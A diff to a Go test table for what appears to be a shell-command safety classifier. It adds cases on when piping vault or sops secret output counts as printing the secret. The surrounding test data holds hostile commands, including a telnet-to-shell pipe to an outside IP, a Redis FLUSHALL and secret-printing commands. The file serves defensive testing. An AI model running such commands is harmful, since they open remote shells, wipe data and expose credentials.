@@ -98,6 +98,13 @@ func TestSensitivePaths(t *testing.T) {
 		{"redis-cli --cluster call 10.0.0.1:7000 FLUSHALL", "data:key-flush"},
 		{"telnet 203.0.113.7 4444 | /bin/sh", rulePipeToShell},
 		{"heroku config -a web", "secrets:secret-print"},
+		// a stage that only counts prints nothing of the secret
+		{"vault kv get secret/creds | grep -c password", ""},
+		{"sops -d secrets/prod.env | wc -l", ""},
+		{"vault kv get secret/creds | grep -q password && echo present", ""},
+		{"vault kv get secret/creds | grep password", "secrets:secret-print"},
+		{"vault kv get secret/creds | grep -e c", "secrets:secret-print"},
+		{"vault kv get secret/creds | grep -c password; vault kv get secret/x", "secrets:secret-print"},
 		{"gh extension remove dlvhdr/gh-dash", ""},
 		{"echo 'make lint' > .git/hooks/pre-push && chmod +x .git/hooks/pre-push", ""},
 		{"printf 'Host app\\n  ProxyCommand ssh -W %%h:%%p bastion.example.com\\n' >> ~/.ssh/config", ""},
